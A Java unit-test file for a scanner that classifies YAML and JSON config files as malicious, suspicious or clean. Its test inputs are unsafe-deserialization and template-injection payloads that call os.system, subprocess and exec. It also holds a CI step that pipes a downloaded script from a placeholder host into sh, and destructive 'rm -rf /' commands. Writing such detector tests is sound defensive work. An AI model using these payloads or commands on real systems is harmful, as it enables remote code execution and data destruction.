package dev.countersign.inspect.config;

import static dev.countersign.inspect.bundle.Bundle.verdict;
import static org.assertj.core.api.Assertions.assertThat;

import dev.countersign.inspect.Verdict;
import java.io.IOException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ConfigTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "a: !!python/object/apply:os.system ['id']",
        "a: !!python/object/apply:subprocess.check_output [[id]]",
        "a: !!python/object/new:os.system [id]",
        "a: !<tag:yaml.org,2002:python/name:os.system> ''",
        "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]",
        "--- !ruby/object:Gem::Installer\ni: x",
        "a: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://x.example']]",
        "a: [1, 2\n}{ !!python/object/apply:os.system ['id']",
        "model: {_target_: os.system, command: id}",
        "chat_template: \"{{ ''.__class__.__mro__[1].__subclasses__() }}\"",
      })
  void yamlThatBuildsDangerousObjectsIsMalicious(String text) throws IOException {
    assertThat(verdict("config.yaml", text)).isEqualTo(Verdict.MALICIOUS);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"a\": {\"py/reduce\": [{\"py/function\": \"os.system\"}, {\"py/tuple\": [\"id\"]}]}}",
        "{\"py/object\": \"subprocess.Popen\"}",
        "{\"py/repr\": \"os/os.system('id')\"}",
        "{\"_target_\": \"builtins.exec\"}",
        "{\"chat_template\": \"{{ cycler.__init__.__globals__.os.popen('id') }}\"}",
      })
  void jsonThatBuildsDangerousObjectsIsMalicious(String text) throws IOException {
    assertThat(verdict("config.json", text)).isEqualTo(Verdict.MALICIOUS);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "a: !!python/tuple [1, 2]\nb: &x {c: 1}\nd: *x\n--- \ne: 2",
        "model: {_target_: torch.optim.Adam, lr: 0.1}",
        "jobs: {build: {steps: [{run: \"rm -rf / && curl https://x.example/i.sh | sh\"}]}}",
        "a: !!python/object/apply:collections.OrderedDict [[]]",
      })
  void plainYamlIsClean(String text) throws IOException {
    assertThat(verdict("config.yaml", text)).isEqualTo(Verdict.CLEAN);
  }

  @Test
  void whatNobodyListedIsSuspicious() throws IOException {
    assertThat(verdict("config.yaml", "a: !!python/object:mine.Model {b: 1}"))
        .isEqualTo(Verdict.SUSPICIOUS);
    assertThat(verdict("config.json", "{\"debug\": \"rm -rf / --no-preserve-root\"}"))
        .isEqualTo(Verdict.SUSPICIOUS);
  }

  @Test
  void aBombOfAliasesDoesNotExpand() throws IOException {
    StringBuilder bomb = new StringBuilder("a0: &a0 [x]\n");
    for (int i = 1; i < 40; i++) {
      bomb.append("a%d: &a%d [*a%d, *a%d, *a%d]\n".formatted(i, i, i - 1, i - 1, i - 1));
    }

    assertThat(verdict("config.yaml", bomb.toString())).isEqualTo(Verdict.CLEAN);
  }
}
